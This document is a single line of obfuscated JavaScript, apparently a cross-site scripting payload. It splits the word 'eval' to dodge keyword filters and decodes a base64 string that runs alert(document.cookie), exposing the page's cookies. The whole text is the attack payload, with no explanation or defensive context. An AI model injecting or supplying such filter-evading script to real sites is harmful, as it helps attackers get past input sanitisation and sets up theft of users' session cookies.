window['ev' + 'al'](atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='));
